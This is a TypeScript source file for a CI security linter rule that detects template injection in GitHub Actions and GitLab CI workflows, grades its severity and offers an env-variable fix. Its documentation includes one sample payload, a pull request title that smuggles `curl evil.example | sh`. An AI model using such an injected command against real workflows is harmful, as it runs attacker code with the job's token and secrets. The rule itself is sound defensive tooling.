import { UNTRUSTED_FIELDS } from "../../data/untrusted-contexts.ts";
import { stepMayRunFor } from "../../expressions/may-run.ts";
import { positionsOf } from "../../expressions/scalar-positions.ts";
import type { Severity } from "../../finding.ts";
import type { StepPlace } from "../../model/workflow.ts";
import type { Span } from "../../parse/line-index.ts";
import { defineRule, type Hit } from "../../rule.ts";
import { withCallers } from "./template-injection/callers.ts";
import { findInjections, type Injection } from "./template-injection/find-injections.ts";
import { fixStep } from "./template-injection/fix.ts";
import { gitlabInjections } from "./template-injection/gitlab.ts";
import { byLevel, type Level } from "./template-injection/levels.ts";

const REPORTED: ReadonlySet<Level> = new Set<Level>(["attacker", "merged", "called", "caller"]);
const STRICT: ReadonlySet<Level> = new Set<Level>([...REPORTED, "unknown", "fixed"]);

export const templateInjection = defineRule({
  meta: {
    id: "template-injection",
    category: "security",
    severity: "critical",
    title: "Untrusted text becomes code",
    fixClass: "safe",
    scope: "repository",
    docs: {
      what: "A `${{ }}` in a script (`run`, the `script` of `actions/github-script`, and other inputs that actions run as code) whose text a stranger or the caller decides: titles, texts and branch names of issues, pull requests, comments, reviews, discussions, commits and wiki pages, `inputs`, payloads, and what `env`, `matrix`, job outputs and step outputs of the same file make of them. One finding per step. In GitLab CI: `$[[ inputs.x | expand_vars ]]` in a script, and a commit message, merge request title or branch name inside `eval` or `sh -c`; one finding per job.",
      why: "GitHub pastes the text into the script before the shell starts, so a pull request with the title `\"; curl evil.example | sh; \"` runs that command with the job's token and secrets. Critical where an event of this workflow lets a stranger set the text; high where a member has to merge it first (commit messages on `push`) or where the event is the caller's; medium for inputs, which callers decide, unless a workflow of this repository passes a stranger's text to them, and for jobs that already ask who the author is.",
      notReported:
        "Values of a fixed alphabet (numbers, commit ids, login and repository names, booleans). Results of tests such as `contains(…)` and `a == b`. Inputs of type boolean, number, choice or environment. Fields that no event of this workflow fills. Variables read by the script itself (`$TITLE`), because they are data. `env:`, `with:` and `if:` outside code. Names of branches and tags that only members push, outputs and variables of unknown origin, and fixed values: the strict profile has those. Secrets, which have other rules. In GitLab CI a quoted `$CI_COMMIT_MESSAGE` outside `eval` and `sh -c`, plain `$[[ inputs.x ]]`, and inputs that are numbers, booleans or one of a list.",
      fix: "Put the expression into `env:` of the step and read the variable in the script, in double quotes. The fix does so for bash, sh, PowerShell, Python and JavaScript, uses a variable that is already there, and offers nothing inside single quotes, here-documents with a quoted marker, `cmd`, or arguments that a program runs again (`eval`, `bash -c`, `ssh`).",
      example: {
        before: 'steps:\n  - run: echo "${{ github.event.issue.title }}"\n',
        after: 'steps:\n  - run: echo "${ISSUE_TITLE}"\n    env:\n      ISSUE_TITLE: ${{ github.event.issue.title }}\n',
      },
    },
  },

  *check(context) {
    for (const place of context.steps) {
      const found = findInjections(place, context.strict ? STRICT : REPORTED).map((injection) =>
        withCallers(context.repository, place, injection),
      );
      if (found.length > 0) yield toHit(place, found);
    }
    yield* gitlabInjections(context);
  },
});

function toHit(place: StepPlace, found: readonly Injection[]): Hit {
  const { document, job, step } = place;
  const [worst, ...others] = found.toSorted(byLevel);
  const first = worst ?? found[0];
  return {
    message: first ? messageOf(document.file.slice(locate(place, first)), first) : "",
    path: document.path,
    at: first ? locate(place, first) : step.node,
    anchor: `${job ? `jobs.${job.id}` : "runs"}.${step.identity}`,
    severity: first ? severityOf(place, first.taint.level) : "low",
    related: others.map((injection) => ({ path: document.path, at: locate(place, injection) })),
    fix: () => fixStep(place, found),
  };
}

function locate({ document }: StepPlace, { code, span }: Injection): Span {
  const positionOf = positionsOf(document.file.text, code.node);
  const start = positionOf(span.start);
  const end = positionOf(span.end);
  return start === null || end === null ? code.node : { start, end };
}

const SEVERITY: Readonly<Record<Level, Severity>> = {
  attacker: "critical",
  merged: "high",
  called: "high",
  caller: "medium",
  unknown: "low",
  fixed: "info",
};

function severityOf(place: StepPlace, level: Level): Severity {
  return level === "attacker" && asksAuthor(place) ? "medium" : SEVERITY[level];
}

/** The step runs only for people who can push anyway, under each event that a stranger can start. */
function asksAuthor({ document, job, step }: StepPlace): boolean {
  if (document.kind === "action" || job === null) return false;
  const open = document.triggers.map(({ event }) => event).filter((event) => STRANGERS_EVENTS.has(event));
  return open.length > 0 && !open.some((event) => stepMayRunFor(document, { job, step }, event));
}

const STRANGERS_EVENTS: ReadonlySet<string> = new Set(UNTRUSTED_FIELDS.flatMap(({ events }) => events));

function messageOf(source: string, { taint }: Injection): string {
  const expression = `\`${source.length > 80 ? "${{ … }}" : source.replaceAll(/\s+/g, " ")}\``;
  const advice = "pass it through `env:` and read the variable in the script.";
  switch (taint.level) {
    case "attacker":
      return `${expression} pastes ${taint.what}, which anybody can set, into this script as code; ${advice}`;
    case "merged":
      return `${expression} pastes ${taint.what}, which a contributor wrote, into this script as code; ${advice}`;
    case "called":
      return `${expression} pastes ${taint.what}, which anybody can set under some of its callers' events, into this script as code; ${advice}`;
    case "caller":
      return `${expression} pastes ${taint.what}, which the caller decides, into this script as code; ${advice}`;
    default:
      return `${expression} is pasted into this script as code; ${advice}`;
  }
}
